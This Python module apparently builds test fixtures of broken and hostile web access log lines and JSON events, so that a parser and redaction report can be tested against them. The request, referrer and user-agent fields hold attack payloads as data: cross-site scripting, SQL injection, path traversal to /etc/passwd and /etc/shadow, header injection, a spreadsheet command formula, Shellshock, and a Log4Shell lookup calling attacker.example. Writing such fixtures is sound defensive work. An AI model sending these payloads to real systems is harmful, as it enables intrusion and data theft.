"""Lines that no parser likes and no report may repeat. Every value in them is reserved or a known fake."""

from __future__ import annotations

import json
from typing import Any

_TIME = "[14/Mar/2026:12:00:{:02d} +0000]"
_AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:148.0) Gecko/20100101 Firefox/148.0"
_JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyQGV4YW1wbGUuY29tIn0.c3ludGhldGljLXNpZ25hdHVyZQ"
_CARD, _SSN, _IBAN = "4111-1111-1111-1111", "078-05-1120", "GB82WEST12345698765432"

# What stands between the quotes of the request.
_REQUESTS = (
    "-",
    "",
    "GET",
    "GET /no-protocol",
    r"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    r"GET /say/\"quoted\"/twice HTTP/1.1",
    r"GET /back\\slash HTTP/1.1",
    "GET /two words in a path HTTP/1.1",
    "GET  /two-blanks  HTTP/1.1",
    "GET /\ttab HTTP/1.1",
    "PROPFIND /dav/ HTTP/1.1",
    "QQQ /unheard-of-method HTTP/1.1",
    "get /lower-case http/1.1",
    "GET http://shop.example.com/absolute/form HTTP/1.1",
    "CONNECT proxy.example.org:443 HTTP/1.1",
    "OPTIONS * HTTP/1.1",
    "GET * HTTP/1.1",
    "GET /* HTTP/1.1",
    "GET /(other) HTTP/1.1",
    "GET (other) HTTP/1.1",
    "GET /(unknown)/(none) HTTP/1.1",
    "GET /user@example.com/profile HTTP/1.1",
    "GET /reset?email=user%40example.com&token=" + _JWT + " HTTP/1.1",
    f"GET /auth/{_JWT} HTTP/1.1",
    f"GET /pay/{_CARD}/done HTTP/1.1",
    "GET /pay?card=4111%201111%201111%201111&name=Jane+Sample HTTP/1.1",
    f"GET /tax/{_SSN} HTTP/1.1",
    f"GET /iban/{_IBAN} HTTP/1.1",
    "GET /iban/GB82%20WEST%201234%205698%207654%2032 HTTP/1.1",
    "GET /call/+1-202-555-0143 HTTP/1.1",
    "GET /from/192.0.2.77/and/2001:db8::77 HTTP/1.1",
    "GET /%75%73%65%72%40%65%78%61%6d%70%6c%65%2e%63%6f%6d HTTP/1.1",
    "GET /%2575ser%2540example.com HTTP/1.1",
    "GET /session;jsessionid=0123456789ABCDEF0123456789ABCDEF HTTP/1.1",
    "GET /search?q=<script>alert(document.cookie)</script> HTTP/1.1",
    "GET /<img%20src=x%20onerror=alert(1)> HTTP/1.1",
    "GET /item?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1",
    "GET /item/1;DROP%20TABLE%20days HTTP/1.1",
    "GET /../../../../etc/passwd HTTP/1.1",
    "GET /%2e%2e/%2e%2e/%252e%252e/etc/shadow HTTP/1.1",
    "GET /%00%0d%0aSet-Cookie:%20sid=1 HTTP/1.1",
    "GET /%e2%80%ae%f0%9f%8d%b5/%EF%BD%81 HTTP/1.1",
    "GET /%zz%f HTTP/1.1",
    "GET /=cmd|'/C%20calc'!A0 HTTP/1.1",
    "GET " + "/very-long" * 700 + " HTTP/1.1",
)
# (referrer, agent)
_SPEAKERS = (
    ("https://www.example.org/welcome?mail=user@example.com", _AGENT),
    (f"https://user:secret@login.example.org/?t={_JWT}", _AGENT),
    (f"https://{_SSN}.example.net/", f"Mozilla/5.0 ({_CARD}; user@example.com) Gecko/20100101 Firefox/148.0"),
    ("javascript:alert(1)", "() { :; }; /bin/sh -c 'echo synthetic'"),
    ("http://[2001:db8::5]:8080/", "${jndi:ldap://attacker.example/a}"),
    ("not a url at all", "A" * 600),
    (r"http://www.example.net/\"quoted\"", r"Mozilla \"Quoted\" 5.0"),
    ("http://münchen.example.org/straße", "Ünïcode/1.0"),
    ("(other)", "(other)"),
    ("http://localhost/", "198.18.7.7"),
)
# Other ways to write addresses of the reserved ranges, then what is none: all of it in the first field.
_ADDRESSES = (
    "::ffff:198.51.100.23",
    "::ffff:c633:6417",
    "2002:c633:6417::1",
    "64:ff9b::198.51.100.23",
    "2001:DB8:0:0:0:0:0:1",
    "[2001:db8::2]:51000",
    "203.0.113.9:443",
    "2001:db8::3%eth0",
    "203.0.113.009",
    "0xCB.0.0x71.9",
    "-",
    "visitor.example.net",
)
# (time field, status, size)
_NUMBERS = (
    ("[14/Mar/2026:12:00:00 +0000]", "200", "-512"),
    ("[31/Feb/2026:12:00:00 +0000]", "200", "512"),
    ("[14/Mar/2026:25:61:00 +0000]", "200", "512"),
    ("[01/Jan/1970:00:00:00 +0000]", "200", "512"),
    ("[14/Mar/2099:12:00:00 +0000]", "200", "512"),
    ("[14/Mar/2026:12:00:60 +0000]", "200", "512"),
    ("[14/Mar/2026:12:00:00 +9900]", "200", "512"),
    ("[-]", "200", "512"),
    ("[14/Mar/2026:12:00:00 +0000]", "999", "512"),
    ("[14/Mar/2026:12:00:00 +0000]", "-", "-"),
    ("[14/Mar/2026:12:00:00 +0000]", "200", "99999999999999999999"),
)


def _line(
    number: int,
    request: str = "GET /ordinary HTTP/1.1",
    *,
    address: str = "",
    time: str = "",
    status: str = "404",
    size: str = "512",
    referrer: str = "-",
    agent: str = _AGENT,
) -> str:
    address, time = address or f"203.0.113.{number % 250 + 1}", time or _TIME.format(number % 60)
    return f'{address} - - {time} "{request}" {status} {size} "{referrer}" "{agent}"'


def access_log() -> bytes:
    """Return a combined log of hostile lines, among ordinary ones that must not be lost."""
    lines = [_line(number, request) for number, request in enumerate(_REQUESTS)]
    lines += [_line(n, referrer=who[0], agent=who[1], status="200") for n, who in enumerate(_SPEAKERS)]
    lines += [_line(number, address=address, status="200") for number, address in enumerate(_ADDRESSES)]
    lines += [
        _line(n, time=time, status=status, size=size) for n, (time, status, size) in enumerate(_NUMBERS)
    ]
    encoded = [line.encode() for line in lines]
    encoded += [
        f'203.0.113.7 - "user@example.com" {_TIME.format(1)} "GET /named HTTP/1.1" 200 5 "-" "-"'.encode(),
        f'203.0.113.8 - - {_TIME.format(2)} "GET /unclosed HTTP/1.1" 200 5 "-" "Mozilla (cut off'.encode(),
        _line(9, "GET /after-the-unclosed-one HTTP/1.1").encode(),
        f'203.0.113.10 - - {_TIME.format(3)} "GET /unclosed-request 200 5'.encode(),
        _line(11, "GET /windows-line-end HTTP/1.1").encode() + b"\r",
        b"",
        b"   ",
        _line(12, "GET /caf\xe9/latin-1 HTTP/1.1").encode("latin-1"),
        _line(13).encode() + b"\xff\xfe\x80",
        _line(14).encode().replace(b"ordinary", b"null\x00byte"),
        b"this is not a log line",
        b"203.0.113.15",
        _line(16).encode() + b' "one field more" 17',
        _line(17, "GET /the-last-line-has-no-end HTTP/1.1").encode(),
    ]
    return b"\n".join(encoded)


def _event(number: int, **fields: Any) -> str:
    record = {
        "time": f"2026-03-14T12:30:{number:02d}Z",
        "ip": f"203.0.113.{number + 100}",
        "path": "/ordinary",
    }
    return json.dumps(record | fields, separators=(",", ":"), ensure_ascii=False)


def events() -> bytes:
    """Return JSON lines that are broken, ambiguous, or of the wrong type."""
    records: tuple[dict[str, Any], ...] = (
        {"event": "page_view"},
        {
            "user_agent": _AGENT,
            "cookies": {"sid": _JWT},
            "password": "hunter2",
            "email": "user@example.com",
        },
        {"status": "200", "bytes": "512"},
        {"status": [200], "bytes": {"sent": 512}},
        {"status": 99999999999, "bytes": -1},
        {"bytes": 1e30, "duration_ms": -5},
        {"path": 12345},
        {"path": None, "host": None, "user_agent": None},
        {"path": "/user@example.com/" + _CARD, "referrer": f"https://example.org/?ssn={_SSN}&iban={_IBAN}"},
        {"time": "2026-02-31T12:00:00Z"},
        {"time": "2099-03-14T12:00:00Z"},
        {"time": 0},
        {"time": -1},
        {"time": 1e300},
        {"time": None},
        {"time": "yesterday"},
        {"time": "2026-03-14 12:30:00"},
        {"ip": "999.1.1.1"},
        {"ip": 3405803777},
        {"ip": "::ffff:203.0.113.5"},
        {"device_id": 12345, "session_id": ["a"], "user_id": {"id": 1}},
        {"device_id": "\u0000", "session_id": "line\nbreak", "event": "tab\tin"},
        {"device_id": "hostile-child-1", "age": "eleven"},
        {"device_id": "hostile-child-2", "age": -3},
        {"device_id": "hostile-child-3", "age": 11.5},
        {"device_id": "hostile-child-4", "age": "11"},
        {"device_id": "hostile-child-5", "birth_date": "2015-02-30"},
        {"device_id": "hostile-child-6", "birth_date": "14.03.2016"},
        {"device_id": "hostile-child-7", "coppa": [1]},
        {"device_id": "hostile-child-8", "child": "maybe"},
        {"emoji": "\U0001f375", "event": "(other)", "path": "/(other)"},
        {"nested": {"child": True, "age": 9}, "path": "/nested-flags-are-not-read"},
    )
    lines = [_event(number, **fields) for number, fields in enumerate(records)]
    deep = "[" * 400 + "]" * 400
    plain = _event(40)[:-1]
    lines += [
        plain + ',"device_id":"hostile-child-9","child":true,"child":false}',
        plain + ',"device_id":"hostile-child-10","child":false,"child":true}',
        plain + r',"device_id":"hostile-child-11","\u0063hild":true}',
        plain + ',"path":"/second","path":"/third"}',
        plain + f',"deep":{deep}}}',
        plain + ',"device_id":"\\ud800 alone"}',
        plain + ',"bytes":NaN}',
        plain,
        plain + "},",
        '{"time":"2026-03-14T12:31:00Z","ip":"203.0.113.200","path":"/cut off',
        _event(41),
        '{"time" 1}',
        "[]",
        "null",
        "42",
        '"text"',
        "{}",
        "",
        "not json at all",
        _event(42) + "\r",
        _event(43) + _event(44),
        "\t" + _event(45) + "  ",
    ]
    return (
        "\n".join(lines).encode()
        + b'\n{"time":"2026-03-14T12:32:00Z","path":"/latin-\xe9"}\n'
        + _event(46).encode()
    )
